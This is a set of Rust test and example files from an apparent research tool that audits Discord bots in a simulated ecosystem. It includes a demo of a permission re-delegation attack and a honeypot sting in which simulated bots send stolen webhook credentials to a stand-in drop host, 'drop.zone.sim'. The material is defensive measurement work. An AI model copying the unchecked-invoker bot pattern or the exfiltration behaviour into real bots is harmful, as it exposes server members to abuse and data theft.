use netsim::latency::LatencyModel;
use netsim::{Network, ServiceCtx};
use proptest::prelude::*;
use rand::rngs::StdRng;
use rand::SeedableRng;

proptest! {
    /// Latency samples always respect the model's documented bounds.
    #[test]
    fn latency_samples_in_bounds(lo in 0u64..1000, span in 0u64..1000, seed in any::<u64>()) {
        let hi = lo + span;
        let model = LatencyModel::Uniform { lo_ms: lo, hi_ms: hi };
        let mut rng = StdRng::seed_from_u64(seed);
        for _ in 0..50 {
            let s = model.sample(&mut rng).as_millis();
            prop_assert!((lo..=hi).contains(&s));
        }
    }

    /// Heavy-tail samples are never faster than the base.
    #[test]
    fn heavy_tail_never_below_base(base in 1u64..500, prob in 0.0f64..1.0, factor in 1u64..100, seed in any::<u64>()) {
        let model = LatencyModel::HeavyTail { base_ms: base, tail_prob: prob, tail_factor: factor };
        let mut rng = StdRng::seed_from_u64(seed);
        for _ in 0..50 {
            prop_assert!(model.sample(&mut rng).as_millis() >= base);
        }
    }

    /// A fault plan with zero probabilities is a guaranteed Deliver; a
    /// certain fault is a guaranteed non-Deliver.
    #[test]
    fn fault_plan_extremes(seed in any::<u64>()) {
        let mut rng = StdRng::seed_from_u64(seed);
        prop_assert_eq!(FaultPlan::none().roll(&mut rng), FaultOutcome::Deliver);
        let certain = FaultPlan { refuse: 1.0, ..FaultPlan::default() };
        prop_assert_eq!(certain.roll(&mut rng), FaultOutcome::Refuse);
    }

    /// The clock never moves backwards regardless of interleaving.
    #[test]
    fn clock_is_monotone(steps in prop::collection::vec((0u64..1000, any::<bool>()), 1..40)) {
        let clock = VirtualClock::new();
        let mut last = clock.now();
        for (amount, use_advance_to) in steps {
            if use_advance_to {
                clock.advance_to(netsim::SimInstant::from_millis(amount));
            } else {
                clock.advance(SimDuration::from_millis(amount));
            }
            let now = clock.now();
            prop_assert!(now >= last);
            last = now;
        }
    }

    /// Dispatch through the fabric is deterministic per seed regardless of
    /// the URL mix.
    #[test]
    fn fabric_is_deterministic(paths in prop::collection::vec("[a-z]{1,8}", 1..10), seed in any::<u64>()) {
        let run = || {
            let net = Network::new(seed);
            net.mount_with(
                "h.sim",
                |req: &Request, _ctx: &mut ServiceCtx<'_>| Response::ok(req.url.path.clone()),
                LatencyModel::healthy(),
                FaultPlan { not_found: 0.3, ..FaultPlan::default() },
            );
            let mut outcomes = Vec::new();
            for p in &paths {
                let r = net.dispatch(
                    "prop",
                    &Request::get(Url::https("h.sim", &format!("/{p}"))),
                    SimDuration::from_secs(5),
                );
                outcomes.push(r.map(|r| r.status.code()).map_err(|e| e.to_string()));
            }
            (outcomes, net.clock().now())
        };
        prop_assert_eq!(run(), run());
    }
}
