//! Traced audit: run the full pipeline through the [`Audit`] facade with a
//! `JsonRecorder` attached, then read back the metric registry and the
//! deterministic span trace.
//!
//! ```sh
//! cargo run --example traced_audit
//! ```
//!
//! The trace printed at the end is *canonical*: re-run with any worker
//! count (or any machine) and the bytes are identical for the same seed —
//! the same contract `tests/trace_determinism.rs` enforces.

use chatbot_audit::Audit;
use obs::{JsonRecorder, ManualClock, MetricValue, Obs};
use std::sync::Arc;

fn main() {
    println!("=== chatbot-audit traced run ===\n");

    // One builder replaces the seven hand-wired config structs. Attach a
    // JsonRecorder so spans are captured; the default is Obs::disabled(),
    // where spans cost a null check and only the metric registry is live.
    let recorder = Arc::new(JsonRecorder::new());
    let obs = Obs::with_recorder(recorder.clone(), Arc::new(ManualClock::new()));
    let audit = Audit::builder()
        .scale(200)
        .seed(2022)
        .workers(4)
        .honeypot_sample(20)
        .site_defenses(false)
        .obs(obs)
        .build()
        .expect("knobs are consistent");

    let report = audit.run().expect("audit completes");
    println!(
        "audited {} bots; {} honeypot detections\n",
        report.bots.len(),
        report.honeypot.as_ref().map_or(0, |c| c.detections.len())
    );

    // The metric registry: typed counters/gauges/histograms under dotted
    // paths, live regardless of recorder.
    println!("-- metric registry --");
    for (path, value) in audit.obs().metrics_snapshot() {
        match value {
            MetricValue::Counter(n) => println!("{path:<32} counter   {n}"),
            MetricValue::Gauge(g) => println!("{path:<32} gauge     {g}"),
            MetricValue::Histogram(h) => println!(
                "{path:<32} histogram count={} mean={:.1} max={}",
                h.count,
                h.mean(),
                h.max
            ),
        }
    }

    // The canonical trace: merged span tree, worker-count independent.
    let trace = recorder.canonical_trace();
    println!(
        "\n-- canonical trace ({} spans recorded, {} bytes merged) --",
        recorder.span_count(),
        trace.len()
    );
    let preview: String = trace.chars().take(400).collect();
    println!("{preview}...");
}
