//! Permission deep dive: the Figure 2 consent screen, the administrator
//! short-circuit, and the §5 "misunderstanding the permission system"
//! analysis (redundant admin requests).
//!
//! ```sh
//! cargo run --example permission_audit
//! ```

use chatbot_audit::{figure3_distribution, AuditConfig, AuditPipeline};
use crawler::invite::InviteStatus;
use discord_sim::oauth::{InviteUrl, OAuthScope};
use discord_sim::Permissions;
use synth::{build_ecosystem, EcosystemConfig};

fn main() {
    // ---- Figure 2: what the user consents to --------------------------
    println!("=== The installation consent screen (Figure 2) ===\n");
    let invite = InviteUrl::bot(
        424242,
        Permissions::ADMINISTRATOR | Permissions::SEND_MESSAGES,
    )
    .with_scope(OAuthScope::Email);
    println!("{}", invite.consent_screen("MegaMod"));
    println!("invite URL: {}\n", invite.to_url());

    // ---- The administrator short-circuit ------------------------------
    println!("=== Why `administrator` is special ===");
    println!(
        "administrator = bit 3 → permissions={} in the URL; it \"allows all permissions,\n\
         bypasses channel permission overwrites, and gives bots access to sensitive user data\".\n",
        Permissions::ADMINISTRATOR.to_invite_field()
    );

    // ---- Crawl a world and analyze what bots actually request ----------
    let eco = build_ecosystem(&EcosystemConfig {
        num_bots: 2_000,
        seed: 99,
        ..EcosystemConfig::default()
    });
    let pipeline = AuditPipeline::new(AuditConfig::default());
    let (bots, _) = pipeline.run_static_stages(&eco.net);

    let valid: Vec<&Permissions> = bots
        .iter()
        .filter_map(|b| match &b.crawled.invite_status {
            InviteStatus::Valid { permissions, .. } => Some(permissions),
            _ => None,
        })
        .collect();

    let admin = valid
        .iter()
        .filter(|p| p.contains(Permissions::ADMINISTRATOR))
        .count();
    let redundant = valid
        .iter()
        .filter(|p| p.contains(Permissions::ADMINISTRATOR) && p.count() > 1)
        .count();
    println!("bots with valid invites            : {}", valid.len());
    println!(
        "requesting administrator           : {} ({:.2}%)",
        admin,
        admin as f64 / valid.len() as f64 * 100.0
    );
    println!(
        "admin + redundant extra permissions: {} ({:.2}% of admin bots)",
        redundant,
        redundant as f64 / admin.max(1) as f64 * 100.0
    );
    println!("→ §5: \"asking for anything in addition to admin is redundant and may imply that");
    println!("   the developer does not completely understand the permission system.\"\n");

    println!("Top 10 requested permissions:");
    for row in figure3_distribution(&bots, 10) {
        println!(
            "  {:28} {:6.2}%  ({} bots)",
            row.permission, row.percent, row.count
        );
    }

    // ---- Decode a few scraped invite links -----------------------------
    println!("\nSample decoded invite links:");
    for bot in bots.iter().take(40) {
        if let InviteStatus::Valid {
            permissions,
            scopes,
        } = &bot.crawled.invite_status
        {
            if permissions.contains(Permissions::ADMINISTRATOR) {
                println!(
                    "  {:18} scopes={:?} permissions=[{}]",
                    bot.crawled.scraped.name, scopes, permissions
                );
            }
        }
    }
}
