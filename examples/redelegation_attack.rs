//! Permission re-delegation, live (§5 "Improper Permission Checks").
//!
//! Discord enforces the *bot's* permissions but never checks whether the
//! human who invoked a command was allowed to ask. A privileged bot whose
//! developer skipped the invoker check lets any member wield the bot's
//! power — demonstrated here end to end.
//!
//! ```sh
//! cargo run --example redelegation_attack
//! ```

use botsdk::{Bot, BotRunner, CommandAction, CommandBot, CommandSpec};
use discord_sim::oauth::InviteUrl;
use discord_sim::{GuildVisibility, Permissions, Platform};
use netsim::clock::VirtualClock;
use netsim::Network;

fn main() {
    let clock = VirtualClock::new();
    let net = Network::with_clock(5, clock.clone());
    let platform = Platform::new(clock);

    // A guild with an owner, a victim, and a low-privilege attacker.
    let owner = platform.register_user("owner#1", "o@x.y");
    let victim = platform.register_user("victim#2", "v@x.y");
    let mallory = platform.register_user("mallory#3", "m@x.y");
    let guild = platform
        .create_guild(owner, "community", GuildVisibility::Public)
        .expect("owner exists");
    platform
        .join_guild(victim, guild, None)
        .expect("public guild");
    platform
        .join_guild(mallory, guild, None)
        .expect("public guild");
    let channel = platform.default_channel(guild).expect("guild has #general");

    println!("=== Permission re-delegation attack ===\n");
    println!(
        "mallory's effective permissions: [{}]",
        platform
            .effective_permissions(mallory, channel)
            .expect("member")
    );
    println!("→ mallory cannot kick anyone directly:");
    println!(
        "  platform says: {}\n",
        platform.kick(mallory, guild, victim).unwrap_err()
    );

    for (label, checks_invoker) in [
        ("UNSAFE bot (no invoker check)", false),
        ("SAFE bot (checks invoker)", true),
    ] {
        println!("--- {label} ---");
        let app = platform
            .register_bot_application(owner, &format!("ModBot-{checks_invoker}"))
            .expect("owner");
        let behavior = CommandBot::new(vec![CommandSpec::moderation(
            "kick",
            Permissions::KICK_MEMBERS,
            checks_invoker,
            CommandAction::KickArg,
        )]);
        let bot = Bot::connect(
            platform.clone(),
            net.clone(),
            app.bot_user,
            "modbot",
            Box::new(behavior),
        )
        .expect("bot account");
        let mut runner = BotRunner::new();
        runner.add(bot);
        // The bot is installed with KICK_MEMBERS — it CAN kick.
        platform
            .install_bot(
                owner,
                guild,
                &InviteUrl::bot(
                    app.client_id,
                    Permissions::KICK_MEMBERS | Permissions::SEND_MESSAGES,
                ),
                true,
            )
            .expect("owner has MANAGE_GUILD");

        // Mallory asks the bot to kick the victim.
        platform
            .send_message(
                mallory,
                channel,
                &format!("!kick {}", victim.0.raw()),
                vec![],
            )
            .expect("mallory can chat");
        runner.run_until_idle();

        let kicked = platform
            .guild(guild)
            .expect("guild")
            .member(victim)
            .is_err();
        let last = platform
            .read_history(owner, channel)
            .expect("owner reads")
            .pop()
            .expect("bot replied");
        println!("  mallory: !kick {}", victim.0.raw());
        println!("  bot:     {}", last.content);
        println!(
            "  victim kicked? {}\n",
            if kicked {
                "YES — privilege re-delegated!"
            } else {
                "no"
            }
        );

        // Put the victim back for the next round.
        if kicked {
            platform
                .join_guild(victim, guild, None)
                .expect("public guild");
        }
    }

    println!("The paper found 27.02% of JavaScript and 97.35% of Python bot repos never");
    println!("perform the invoker check — every privileged command there is the UNSAFE case.\n");

    // --- The structural fix: slash commands with platform enforcement ---
    println!("--- Slash commands (platform-enforced default_member_permissions) ---");
    let app = platform
        .register_bot_application(owner, "SlashMod")
        .expect("owner");
    let behavior = CommandBot::new(vec![CommandSpec::moderation(
        "kick",
        Permissions::KICK_MEMBERS,
        false, // developer STILL doesn't check — and it no longer matters
        CommandAction::KickArg,
    )]);
    let bot = Bot::connect(
        platform.clone(),
        net,
        app.bot_user,
        "slashmod",
        Box::new(behavior),
    )
    .expect("bot account");
    let mut runner = BotRunner::new();
    runner.add(bot);
    platform
        .install_bot(
            owner,
            guild,
            &InviteUrl::bot(
                app.client_id,
                Permissions::KICK_MEMBERS | Permissions::SEND_MESSAGES,
            ),
            true,
        )
        .expect("install");
    platform
        .register_slash_commands(
            owner,
            app.client_id,
            vec![discord_sim::SlashCommand::gated(
                "kick",
                "remove a member",
                Permissions::KICK_MEMBERS,
            )],
        )
        .expect("owner registers");

    match platform.invoke_slash(
        mallory,
        channel,
        app.client_id,
        "kick",
        &victim.0.raw().to_string(),
    ) {
        Err(e) => println!(
            "  mallory: /kick → PLATFORM refuses before the bot hears anything:\n           {e}"
        ),
        Ok(()) => unreachable!("mallory must be rejected"),
    }
    platform
        .invoke_slash(
            owner,
            channel,
            app.client_id,
            "kick",
            &victim.0.raw().to_string(),
        )
        .expect("owner holds KICK_MEMBERS");
    runner.run_until_idle();
    let kicked = platform
        .guild(guild)
        .expect("guild")
        .member(victim)
        .is_err();
    println!("  owner:   /kick → interaction delivered, victim kicked? {kicked}");
    println!("\nWith application commands the invoker check moves into the platform —");
    println!("re-delegation is closed structurally, not by developer diligence.");
}
