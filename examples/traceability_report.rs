//! Traceability walkthrough: how the keyword-based analyzer classifies
//! privacy policies as complete / partial / broken, and how disclosures are
//! compared against requested permissions.
//!
//! ```sh
//! cargo run --example traceability_report
//! ```

use policy::{analyze, corpus, DataPractice, KeywordOntology, PrivacyPolicy};
use rand::rngs::StdRng;
use rand::SeedableRng;

fn show(
    name: &str,
    policy: Option<&PrivacyPolicy>,
    permissions: &[&str],
    ontology: &KeywordOntology,
) {
    let report = analyze(policy, permissions, ontology);
    println!("--- {name} ---");
    if let Some(p) = policy {
        println!(
            "  text: {:?}…",
            p.full_text().chars().take(90).collect::<String>()
        );
    } else {
        println!("  text: (no policy found)");
    }
    println!("  practices described : {:?}", report.practices_found);
    println!("  classification      : {}", report.classification);
    if !report.permission_disclosures.is_empty() {
        println!("  permission disclosures (requested → mentioned?):");
        for d in &report.permission_disclosures {
            println!(
                "    {:24} noun {:10} → {}",
                d.permission,
                format!("{:?}", d.matched_noun),
                if d.disclosed {
                    "disclosed"
                } else {
                    "NOT disclosed"
                }
            );
        }
        println!(
            "  disclosure ratio    : {:.0}%",
            report.disclosure_ratio() * 100.0
        );
    }
    println!();
}

fn main() {
    let ontology = KeywordOntology::standard();
    let mut rng = StdRng::seed_from_u64(2022);
    let perms = ["read message history", "kick members", "administrator"];

    println!("=== Keyword-based traceability analysis (§3) ===\n");
    println!(
        "Keyword sets: collect={:?}…\n",
        &ontology.keywords(DataPractice::Collect)[..4]
    );

    let complete = corpus::complete_policy(&mut rng, "CarefulBot", true);
    show(
        "a complete, tailored policy",
        Some(&complete),
        &perms,
        &ontology,
    );

    let partial = corpus::partial_policy(&mut rng, "HalfBot", &[DataPractice::Collect], true);
    show(
        "a partial policy (collection only)",
        Some(&partial),
        &perms,
        &ontology,
    );

    let generic = corpus::generic_boilerplate();
    show(
        "generic boilerplate (reused verbatim across bots)",
        Some(&generic),
        &perms,
        &ontology,
    );

    let vacuous = corpus::vacuous_policy();
    show(
        "a policy page that says nothing",
        Some(&vacuous),
        &perms,
        &ontology,
    );

    show(
        "no policy at all (the 95.67% case)",
        None,
        &perms,
        &ontology,
    );

    println!("=== Ontology ablation ===");
    let base = KeywordOntology::base_verbs_only();
    let synonym_heavy = PrivacyPolicy::new(
        "P",
        vec![
            "Usage data is gathered, analyzed, kept in our database, and never sold to anyone."
                .into(),
        ],
        false,
    );
    let full_result = analyze(Some(&synonym_heavy), &[], &ontology);
    let base_result = analyze(Some(&synonym_heavy), &[], &base);
    println!(
        "  synonym-written policy: full ontology → {}, base verbs only → {}",
        full_result.classification, base_result.classification
    );
    println!("  (dropping the synonym sets silently breaks coverage — §5's accuracy caveat)");
}
