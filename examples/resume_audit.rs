//! Crash-safe audits: kill a run mid-pipeline, resume it, and verify the
//! resumed report is byte-identical to one that was never interrupted.
//!
//! ```sh
//! cargo run --example resume_audit
//! ```
//!
//! The pipeline journals every completed unit of work (listing traversal,
//! 32-listing crawl chunks, per-bot analyses, the honeypot campaign) to a
//! write-ahead log, and stores analysis outputs in a content-addressed
//! artifact pack. A resumed run replays the journal, skips everything that
//! is already durable, and finishes the rest.

use chatbot_audit::{AuditConfig, AuditPipeline, ResumeError, StoreConfig};
use std::sync::Arc;
use store::MemBackend;
use synth::{build_ecosystem, EcosystemConfig};

const SEED: u64 = 2022;

fn world() -> synth::Ecosystem {
    build_ecosystem(&EcosystemConfig {
        num_bots: 150,
        seed: SEED,
        ..EcosystemConfig::default()
    })
}

fn config() -> AuditConfig {
    AuditConfig {
        honeypot_sample: 20,
        ..AuditConfig::default()
    }
}

fn main() {
    println!("=== resumable audit walkthrough ===\n");

    // Reference: one uninterrupted run on a throwaway store.
    println!("[1/3] uninterrupted run (reference)");
    let reference = AuditPipeline::new(config())
        .run_resumable(&world(), &StoreConfig::in_memory(), SEED)
        .expect("uninterrupted run completes");
    println!(
        "      {} journal frames written, {} analyses computed\n",
        reference.store_stats.frames_written, reference.store_stats.artifact_misses
    );

    // Crash: same run on a persistent backend, killed after 40 frames.
    // (MemBackend keeps this example hermetic; swap in
    // `StoreConfig::on_disk(path)` to survive a real process kill.)
    println!("[2/3] crash: kill switch armed at 40 journal frames");
    let backend = Arc::new(MemBackend::new());
    let killed = StoreConfig {
        backend: backend.clone(),
        resume: false,
        kill_after_frames: Some(40),
    };
    match AuditPipeline::new(config()).run_resumable(&world(), &killed, SEED) {
        Err(ResumeError::Interrupted { frames_written }) => {
            println!("      interrupted with {frames_written} durable frames on disk\n");
        }
        other => panic!("expected an interrupt, got {other:?}"),
    }

    // Resume: fresh pipeline, fresh world (a new process would look exactly
    // like this), same backend.
    println!("[3/3] resume from the journal");
    let resumed_store = StoreConfig {
        backend,
        resume: true,
        kill_after_frames: None,
    };
    let resumed = AuditPipeline::new(config())
        .run_resumable(&world(), &resumed_store, SEED)
        .expect("resumed run completes");
    println!(
        "      replayed {} frames, reused {} cached analyses, computed {} fresh",
        resumed.store_stats.frames_replayed,
        resumed.store_stats.artifact_hits,
        resumed.store_stats.artifact_misses,
    );

    let reference_json = reference.report.canonical_json();
    let resumed_json = resumed.report.canonical_json();
    println!(
        "\ncanonical report: {} bytes uninterrupted, {} bytes resumed",
        reference_json.len(),
        resumed_json.len()
    );
    if reference_json == resumed_json {
        println!("VERDICT: byte-identical — the crash cost wall-clock, not correctness");
    } else {
        let diverge = reference_json
            .bytes()
            .zip(resumed_json.bytes())
            .position(|(a, b)| a != b)
            .unwrap_or(reference_json.len().min(resumed_json.len()));
        println!("VERDICT: DIVERGED at byte {diverge} — this is a bug");
        std::process::exit(1);
    }
}
