//! Fleet scheduling: three tenants re-auditing a drifting ecosystem.
//!
//! ```sh
//! cargo run --example fleet_audit
//! ```
//!
//! Each tenant owns a world (different seed), submits an epoch-0 baseline
//! audit, then a month later re-audits epoch 1 of the same world. The
//! always-on fleet daemon runs every job over one shared worker pool,
//! journals each tenant into a private scoped store, and diffs every
//! re-audit against the tenant's previous report. The interesting outputs
//! are the [`DeltaReport`]s — who drifted, whose traceability flipped,
//! who gained permissions — and the artifact-pack hit counters showing
//! the re-audit only re-analyzed the drifted bots.
//!
//! This example drives the redesigned service API end to end: validated
//! submission via [`JobSpec::builder`] returning typed [`JobHandle`]s,
//! the [`FleetDaemon::run_until`] tick loop on the virtual clock,
//! outcome claiming via [`FleetDaemon::resolve`], and a clean
//! [`ShutdownMode::Drain`] at the end.
//!
//! [`JobHandle`]: chatbot_audit::JobHandle
//! [`FleetDaemon::run_until`]: chatbot_audit::FleetDaemon::run_until
//! [`FleetDaemon::resolve`]: chatbot_audit::FleetDaemon::resolve
//! [`ShutdownMode::Drain`]: chatbot_audit::ShutdownMode::Drain

use chatbot_audit::{Audit, AuditJob, DeltaReport, FleetDaemon, FleetDaemonConfig, ShutdownMode};
use netsim::Clock;
use sched::JobSpec;
use synth::DriftConfig;

const SCALE: usize = 150;

/// Elevated churn so a small world reliably shows a traceability flip.
fn drift() -> DriftConfig {
    DriftConfig {
        policy_churn: 0.25,
        github_churn: 0.15,
        ..DriftConfig::default()
    }
}

fn job(seed: u64, epoch: u32) -> AuditJob {
    Audit::builder()
        .scale(SCALE)
        .seed(seed)
        .honeypot_sample(15)
        .site_defenses(false)
        .drift(drift())
        .epoch(epoch)
        .into_job()
        .expect("valid audit config")
}

fn main() {
    let tenants: [(&str, u64, &str); 3] = [
        ("acme-trust", 2022, "interactive"),
        ("beta-labs", 7, "standard"),
        ("cyber-sec", 41, "batch"),
    ];

    let daemon = FleetDaemon::new(FleetDaemonConfig {
        workers: 4,
        ..FleetDaemonConfig::default()
    });

    println!("=== fleet audit: 3 tenants x 2 epochs ===\n");

    // Epoch 0: every tenant's baseline audit (cold stores, no deltas).
    println!("[epoch 0] baseline audits");
    let mut handles = Vec::new();
    for (tenant, seed, lane) in tenants {
        let spec = JobSpec::builder(tenant)
            .lane_named(lane)
            .build()
            .expect("valid spec");
        handles.push(daemon.submit(spec, job(seed, 0)).expect("queue has room"));
    }
    // Generous horizon: the batch tenant's audit is sliced into 8-frame
    // chunks (cooperative preemption), so it needs a few dozen ticks.
    let horizon = daemon.clock().now_millis() + 400;
    daemon.run_until(horizon);
    for handle in handles.drain(..) {
        let outcome = daemon.resolve(handle).expect("baseline settled");
        let report = outcome.report.as_ref().expect("audit completes");
        println!(
            "  {:<10} {:>4} bots audited, {} analyses computed cold",
            outcome.tenant,
            report.bots.len(),
            outcome.artifact_misses,
        );
    }

    // Epoch 1: the ecosystem drifted; every tenant re-audits.
    println!("\n[epoch 1] incremental re-audits against each tenant's warm pack");
    for (tenant, seed, lane) in tenants {
        let spec = JobSpec::builder(tenant)
            .lane_named(lane)
            .build()
            .expect("valid spec");
        handles.push(daemon.submit(spec, job(seed, 1)).expect("queue has room"));
    }
    let horizon = daemon.clock().now_millis() + 400;
    daemon.run_until(horizon);

    let mut flips = 0usize;
    for handle in handles.drain(..) {
        let outcome = daemon.resolve(handle).expect("re-audit settled");
        outcome.report.as_ref().expect("re-audit completes");
        let delta: &DeltaReport = outcome.delta.as_ref().expect("epoch 1 diffs epoch 0");
        // For a sliced batch audit the counters describe the final
        // slice, which replays earlier slices' work as warm hits.
        println!(
            "  {:<10} warm pack/journal served {}/{} analyses; {} recomputed",
            outcome.tenant,
            outcome.artifact_hits,
            outcome.artifact_hits + outcome.artifact_misses,
            outcome.artifact_misses,
        );
        println!("             delta: {}", delta.summary());
        println!(
            "             drift split: {} crawl-visible (full page refetches), {} analysis-only (pages 304'd, honeypot re-run)",
            delta.crawl_visible().len(),
            delta.analysis_only().len(),
        );
        for t in &delta.traceability_transitions {
            println!(
                "             traceability flip: {} {:?} -> {:?}",
                t.name, t.from, t.to
            );
        }
        for p in delta.permission_changes.iter().take(2) {
            println!(
                "             permission creep: {} gained {:?}",
                p.name, p.added
            );
        }
        for d in &delta.new_detections {
            println!("             honeypot: {d} started leaking");
        }
        flips += delta.traceability_transitions.len();
    }

    // Epochs 2 and 3: keep the fleet drifting so the longitudinal views
    // below have a real time series to answer from.
    println!("\n[epochs 2-3] the fleet keeps re-auditing on its cadence");
    for epoch in 2..4u32 {
        for (tenant, seed, lane) in tenants {
            let spec = JobSpec::builder(tenant)
                .lane_named(lane)
                .build()
                .expect("valid spec");
            handles.push(daemon.submit(spec, job(seed, epoch)).expect("room"));
        }
        let horizon = daemon.clock().now_millis() + 400;
        daemon.run_until(horizon);
    }
    for handle in handles.drain(..) {
        let outcome = daemon.resolve(handle).expect("settled");
        outcome.report.as_ref().expect("re-audit completes");
    }

    // The longitudinal oplog: every question below is answered from each
    // tenant's persisted epoch chain — zero audits are replayed.
    println!("\n=== longitudinal oplog: 4 committed epochs per tenant ===");
    for (tenant, _, _) in tenants {
        let trends = daemon.trends(tenant).expect("chain");
        println!("  {tenant:<10} epochs {:?}", trends.epochs());
        for flipper in trends.flipped_at_least(2) {
            println!(
                "             {} flipped traceability {}x: {}",
                flipper.bot,
                flipper.flips,
                flipper.path.join(" -> ")
            );
        }
        let creep = trends.permission_creep();
        println!(
            "             cumulative permission creep since epoch 0: +{} / -{} across {} bots",
            creep.total_added,
            creep.total_removed,
            creep.by_bot.len()
        );
    }
    println!("  fleet-wide drift curves (per platform, per epoch):");
    for curve in daemon.fleet_trends().expect("fleet") {
        let drifted: Vec<u32> = curve.points.iter().map(|p| p.drifted).collect();
        println!(
            "             {:<10} {} tenant(s), drifted by epoch: {drifted:?}",
            curve.platform, curve.tenants
        );
    }

    // Generational compaction: artifacts referenced only by epochs older
    // than the last two generations are dropped; the views above keep
    // answering identically from the surviving chain.
    println!("\n=== generational pack compaction (keep last 2 epochs) ===");
    let reference = daemon.trends("acme-trust").expect("chain").canonical_json();
    for (tenant, _, _) in tenants {
        let outcome = daemon.compact_tenant(tenant, 2).expect("compaction");
        println!(
            "  {tenant:<10} reclaimed {} bytes ({} blobs dropped, {} live)",
            outcome.reclaimed_bytes(),
            outcome.dropped_blobs,
            outcome.live_blobs,
        );
    }
    assert_eq!(
        daemon.trends("acme-trust").expect("chain").canonical_json(),
        reference,
        "compaction must never change a trend answer"
    );

    // What-if clone: snapshot acme-trust at its head epoch (state, not
    // history) and re-audit the next epoch in the fork — the original
    // tenant's chain never notices.
    println!("\n=== what-if clone of acme-trust ===");
    let genesis = daemon
        .clone_tenant("acme-trust", "acme-whatif")
        .expect("fresh fork");
    println!("  forked at epoch {} (chain length 1)", genesis.epoch);
    let spec = JobSpec::builder("acme-whatif")
        .lane_named("interactive")
        .build()
        .expect("valid spec");
    let handle = daemon.submit(spec, job(2022, 4)).expect("room");
    let horizon = daemon.clock().now_millis() + 400;
    daemon.run_until(horizon);
    let outcome = daemon.resolve(handle).expect("what-if settled");
    let delta = outcome.delta.as_ref().expect("fork point is the baseline");
    println!(
        "  what-if epoch 4: {} warm hits, delta vs fork point: {}",
        outcome.artifact_hits,
        delta.summary()
    );
    assert_eq!(
        daemon.history("acme-trust").expect("chain").len(),
        4,
        "the source chain is untouched by the fork"
    );

    let report = daemon.shutdown(ShutdownMode::Drain);
    assert!(report.outcomes.is_empty(), "every outcome already claimed");
    assert!(report.abandoned.is_empty(), "nothing left queued");

    if flips == 0 {
        println!("\nVERDICT: no traceability flip surfaced — drift model regressed");
        std::process::exit(1);
    }
    println!(
        "\nVERDICT: {flips} traceability flips surfaced across the fleet; every \
         re-audit was incremental (warm pack hits above)"
    );
}
