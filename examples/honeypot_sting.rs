//! A hands-on honeypot sting, built from the primitives rather than the
//! pipeline: four bots (a benign one, a Melonian-style developer-snooper,
//! an automated exfiltrator, and a webhook-credential thief) walk into
//! canary-instrumented guilds.
//!
//! ```sh
//! cargo run --example honeypot_sting
//! ```

use botsdk::{BenignBehavior, ExfiltratorBehavior, SnooperBehavior, WebhookThiefBehavior};
use crawler::solver::CaptchaSolverService;
use discord_sim::oauth::InviteUrl;
use discord_sim::{Permissions, Platform};
use honeypot::campaign::{BotUnderTest, Campaign, CampaignConfig};
use honeypot::DiscordSubstrate;
use netsim::clock::VirtualClock;
use netsim::Network;

fn main() {
    // The world: one clock, one network, one platform.
    let clock = VirtualClock::new();
    let net = Network::with_clock(1234, clock.clone());
    CaptchaSolverService::mount(&net);
    let platform = Platform::new(clock);
    let dev = platform.register_user("somedev#0001", "dev@backend.example");

    // The permissions all three request — ordinary for a "fun" bot.
    let perms = Permissions::SEND_MESSAGES
        | Permissions::VIEW_CHANNEL
        | Permissions::READ_MESSAGE_HISTORY
        | Permissions::ATTACH_FILES;

    let mut bots = Vec::new();
    for (name, extra_perms, behavior) in [
        (
            "GoodBot",
            Permissions::NONE,
            Box::new(BenignBehavior::new("fun")) as Box<dyn botsdk::Behavior>,
        ),
        (
            "Melonian",
            Permissions::NONE,
            Box::new(SnooperBehavior::new(12)),
        ),
        (
            "Harvester",
            Permissions::NONE,
            Box::new(ExfiltratorBehavior::new(Some("drop.zone.sim")).spamming()),
        ),
        (
            "HookSnatcher",
            Permissions::MANAGE_WEBHOOKS,
            Box::new(WebhookThiefBehavior::new("drop.zone.sim")),
        ),
    ] {
        let app = platform
            .register_bot_application(dev, name)
            .expect("dev exists");
        bots.push(BotUnderTest {
            name: name.to_string(),
            client_id: app.client_id,
            bot_user: app.bot_user.0.raw(),
            invite: InviteUrl::bot(app.client_id, perms | extra_perms)
                .to_url()
                .to_string(),
            behavior,
        });
    }

    println!("=== Honeypot sting: 4 bots, isolated guilds, 4+1 canary tokens each ===\n");
    let substrate = DiscordSubstrate::new(platform.clone(), net.clone());
    let mut campaign = Campaign::new(substrate, CampaignConfig::default());
    let report = campaign.run(bots);

    println!(
        "guilds {} | personas verified manually {} | tokens {} | feed messages {} | captchas {} (${:.2})\n",
        report.guilds_created,
        report.manual_verifications,
        report.tokens_planted,
        report.messages_posted,
        report.captchas_solved,
        report.captcha_spend_dollars
    );

    println!("--- trigger timeline (virtual time) ---");
    for t in &report.triggers {
        println!(
            "  {}  token {:38} via {}  {}",
            t.at,
            t.token_id,
            t.requester,
            if t.via_mail {
                "(mail delivery)"
            } else {
                "(url fetch)"
            }
        );
    }

    println!("\n--- attributed detections ---");
    for det in &report.detections {
        println!("  bot: {}", det.bot_name);
        println!("    token kinds : {:?}", det.token_kinds);
        println!("    requesters  : {:?}", det.requesters);
        println!("    follow-ups  : {:?}", det.followup_messages);
    }
    println!("\n(GoodBot triggered nothing: its backend only ever answers commands.)");
    println!("(HookSnatcher was caught by the webhook-token canary — its stolen credential");
    println!(" appeared in a request to its drop server, visible on the network tap.)");

    // The drop-zone traffic is visible in the network trace even though
    // drop.zone.sim is not mounted — the attempt itself is the signal.
    let attempts = net.with_trace(|t| t.matching_url("drop.zone.sim").len());
    println!("exfiltration attempts to drop.zone.sim observed on the wire: {attempts}");
}
