//! Quickstart: build a small synthetic ecosystem and run the paper's full
//! assessment pipeline over it.
//!
//! ```sh
//! cargo run --example quickstart
//! ```

use chatbot_audit::{
    figure3_distribution, render_figure3, render_table1, render_table2, render_table3, risk_report,
    table1_histogram, table2_traceability, table3_code_analysis, validate_against_truth,
    AuditConfig, AuditPipeline, RiskFlag,
};
use synth::{build_ecosystem, EcosystemConfig};

fn main() {
    println!("=== chatbot-audit quickstart ===\n");
    println!("Stage 0  build a synthetic ecosystem (1,000 listings, paper-calibrated)");
    let eco = build_ecosystem(&EcosystemConfig {
        num_bots: 1_000,
        seed: 7,
        ..EcosystemConfig::default()
    });

    println!("Stage 1  data collection: crawl the listing site (captchas, rate limits and all)");
    println!("Stage 2  traceability: compare privacy policies against requested permissions");
    println!("Stage 3  code analysis: resolve GitHub links, scan for permission checks");
    let pipeline = AuditPipeline::new(AuditConfig {
        honeypot_sample: 40,
        ..AuditConfig::default()
    });
    let (bots, stats) = pipeline.run_static_stages(&eco.net);
    println!(
        "         crawled {} bots over {} pages; {} captchas solved (${:.2}); {} of virtual time\n",
